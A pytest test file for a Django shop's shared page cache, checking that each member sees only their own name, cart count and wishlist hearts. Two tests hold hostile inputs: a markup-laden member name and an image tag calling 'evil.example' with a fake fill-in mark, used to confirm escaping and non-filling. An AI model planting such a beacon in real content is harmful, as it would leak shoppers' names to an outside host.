"""Members share the main, category and product pages; each sees only their own name, cart badge and hearts."""

import re

import pytest
from django.core.cache import cache
from django.test import Client

from apps.accounts.services import user_change_password
from apps.catalog import services as catalog_services
from apps.catalog.tests.factories import CategoryFactory, ProductFactory, ProductOptionFactory, UserFactory
from apps.core import pagecache, personal
from apps.orders.services import carts

pytestmark = pytest.mark.django_db


def _heart(html: str) -> str:
    """aria-pressed of the product page's heart."""
    button = re.search(r'<button class="wish__button"[^>]*>', html)
    assert button, "the page has no heart"
    return re.search(r'aria-pressed="([^"]*)"', button.group(0)).group(1)


def _badge(html: str) -> str | None:
    match = re.search(r'data-testid="cart-count">([^<]*)<', html)
    return match.group(1) if match else None


def _browser(user) -> Client:
    browser = Client()
    browser.force_login(user)
    return browser


@pytest.fixture
def world(django_capture_on_commit_callbacks):
    """A product page, a category page, and two members: 김에이 with 2 cart lines and a heart, 박비 with none."""
    category = CategoryFactory()
    product = ProductFactory(category=category, sale_price=19_900, list_price=29_900)
    ProductOptionFactory(product=product, stock=10)
    other = ProductOptionFactory(stock=10)
    a, b = UserFactory(name="김에이"), UserFactory(name="박비")
    with django_capture_on_commit_callbacks(execute=True):
        carts.cart_item_add(user=a, option_id=product.options.first().pk)
        carts.cart_item_add(user=a, option_id=other.pk)
        catalog_services.wishlist_toggle(user=a, product=product)
    pagecache.local_clear()
    return {"product": product, "category": category, "a": a, "b": b, "other": other}


def _pages(world) -> list[str]:
    return ["/", world["category"].get_absolute_url(), world["product"].get_absolute_url()]


def test_members_share_one_render_yet_each_sees_only_their_own_name_and_cart(world):
    """Two members read the same stored page; the second sees their name and no badge, never 김에이's."""
    a, b = _browser(world["a"]), _browser(world["b"])
    for url in _pages(world):
        first = a.get(url).content.decode()
        second = b.get(url).content.decode()

        assert "김에이님" in first
        assert _badge(first) == "2"
        assert "박비님" in second
        assert "김에이" not in second
        assert _badge(second) is None
        assert personal._secret() not in first + second
    assert "aria-pressed" in first
    assert _heart(first) == "true"
    assert _heart(second) == "false"
    assert sum(key.endswith(":member") for key in cache.keys("page:*")) == 3  # one shared copy per page


def test_the_member_copy_is_rendered_once_for_every_member(world, monkeypatch):
    """However many members ask, the product page is rendered once; the rest is filling marks."""
    renders = []
    real = pagecache.render_to_string
    monkeypatch.setattr(pagecache, "render_to_string", lambda *args: renders.append(1) or real(*args))
    url = world["product"].get_absolute_url()
    for user in (world["a"], world["b"], UserFactory(name="최씨")):
        pagecache.local_clear()
        assert _browser(user).get(url).status_code == 200

    assert len(renders) == 1


def test_a_cart_change_shows_on_the_next_page_and_never_on_another_members(
    world, django_capture_on_commit_callbacks
):
    """김에이 adds a third line: her next page shows 3; 박비's page, asked in between, still shows no badge."""
    a, b = _browser(world["a"]), _browser(world["b"])
    url = world["product"].get_absolute_url()
    assert _badge(a.get(url).content.decode()) == "2"
    third = ProductOptionFactory(stock=5)

    with django_capture_on_commit_callbacks(execute=True):
        added = a.post("/cart/add/", {"product": third.product_id, "option": third.pk, "quantity": 1})
    between = b.get(url).content.decode()
    after = a.get(url).content.decode()  # shows the "담았어요" message: rendered for her
    shared_after = a.get(url).content.decode()  # the shared copy, filled from her new bag

    assert added.status_code == 302
    assert _badge(between) is None
    assert "김에이" not in between
    assert _badge(after) == "3"
    assert _badge(shared_after) == "3"


def test_a_heart_shows_filled_on_the_next_page_for_that_member_only(
    world, django_capture_on_commit_callbacks
):
    """박비 hearts the product: her next product page has it filled, 김에이's stays filled, a third's empty."""
    a, b, c = _browser(world["a"]), _browser(world["b"]), _browser(UserFactory(name="최씨"))
    product = world["product"]
    url = product.get_absolute_url()
    assert _heart(b.get(url).content.decode()) == "false"

    with django_capture_on_commit_callbacks(execute=True):
        b.post(f"/p/{product.pk}/wish/")
    between = c.get(url).content.decode()
    after = b.get(url).content.decode()  # with the "찜 목록에 담았어요" message: rendered for her
    shared_after = b.get(url).content.decode()

    assert _heart(between) == "false"
    assert _heart(after) == "true"
    assert _heart(shared_after) == "true"
    assert _heart(a.get(url).content.decode()) == "true"


def test_members_see_the_shared_price_and_a_price_change_at_once(world, django_capture_on_commit_callbacks):
    """There is no member price: every member sees the visitors' price, and a staff edit reaches them too."""
    product = world["product"]
    url = product.get_absolute_url()
    pages = [_browser(world["a"]).get(url), _browser(world["b"]).get(url), Client().get(url)]
    assert all("19,900원" in page.content.decode() for page in pages)

    product.sale_price = 15_900
    with django_capture_on_commit_callbacks(execute=True):
        catalog_services.product_save(product=product)

    assert "15,900원" in _browser(world["b"]).get(url).content.decode()


def test_a_member_name_is_escaped_where_it_is_filled_in(django_capture_on_commit_callbacks):
    """A name is text: markup in it shows as text, in the header's label and in its title."""
    product = ProductOptionFactory().product
    html = _browser(UserFactory(name='<b>"x"</b>')).get(product.get_absolute_url()).content.decode()

    assert "<b>" not in html
    assert "&lt;b&gt;&quot;x&quot;&lt;/b&gt;님" in html


def test_switching_members_in_one_browser_shows_the_new_member(world):
    """Log out as 김에이 and in as 박비 in the same browser: the page names 박비 and shows no badge."""
    browser = _browser(world["a"])
    url = world["product"].get_absolute_url()
    assert "김에이님" in browser.get(url).content.decode()

    browser.post("/accounts/logout/")
    browser.force_login(world["b"])
    html = browser.get(url).content.decode()

    assert "박비님" in html
    assert "김에이" not in html
    assert _badge(html) is None


def test_staff_get_pages_rendered_for_them(world):
    """Staff see hidden products and admin-only parts, so they never read or fill the members' copy."""
    url = world["product"].get_absolute_url()
    staff = _browser(UserFactory(name="운영자", is_staff=True))

    html = staff.get(url).content.decode()

    assert "운영자님" in html
    assert not any(key.endswith(":member") for key in cache.keys("page:*"))


def test_a_bag_built_from_rows_older_than_a_change_is_never_served(world, django_capture_on_commit_callbacks):
    """A request reading the database before a change stores its bag under the old generation: unserved."""
    user = world["b"]
    request = type("Request", (), {"user": user})()
    generation_before = cache.get(personal._generation_key(user.pk))
    personal_old_bag = {"user_id": user.pk, "cart_count": 0, "wished_product_ids": frozenset()}

    with django_capture_on_commit_callbacks(execute=True):
        carts.cart_item_add(user=user, option_id=world["other"].pk)
    # The slow request finishes now, storing what it read before the change under the generation it read.
    cache.set(personal._bag_key(user.pk), (generation_before, personal_old_bag), 60)

    assert personal.personal_bag(request)["cart_count"] == 1


def test_a_password_change_forgets_the_bag(world, django_capture_on_commit_callbacks):
    """After a password change (or a withdrawal) nothing of the member's is kept for pages."""
    user = world["a"]
    _browser(user).get(world["product"].get_absolute_url())
    assert cache.get(personal._bag_key(user.pk)) is not None

    with django_capture_on_commit_callbacks(execute=True):
        user_change_password(user=user, new_password="new-Pass-2026!x")

    assert cache.get(personal._bag_key(user.pk)) is None


def test_a_mark_written_by_a_seller_is_never_filled(world, django_capture_on_commit_callbacks):
    """A description holding something shaped like a mark (without the secret) reaches members as written."""
    product = world["product"]
    product.description = '<p><img src="https://evil.example/?n={0123456789abcdef0123:member_name:}"></p>'
    with django_capture_on_commit_callbacks(execute=True):
        catalog_services.product_save(product=product)

    html = _browser(world["a"]).get(product.get_absolute_url()).content.decode()

    assert "0123456789abcdef0123:member_name:" in html
    assert "n=김에이" not in html
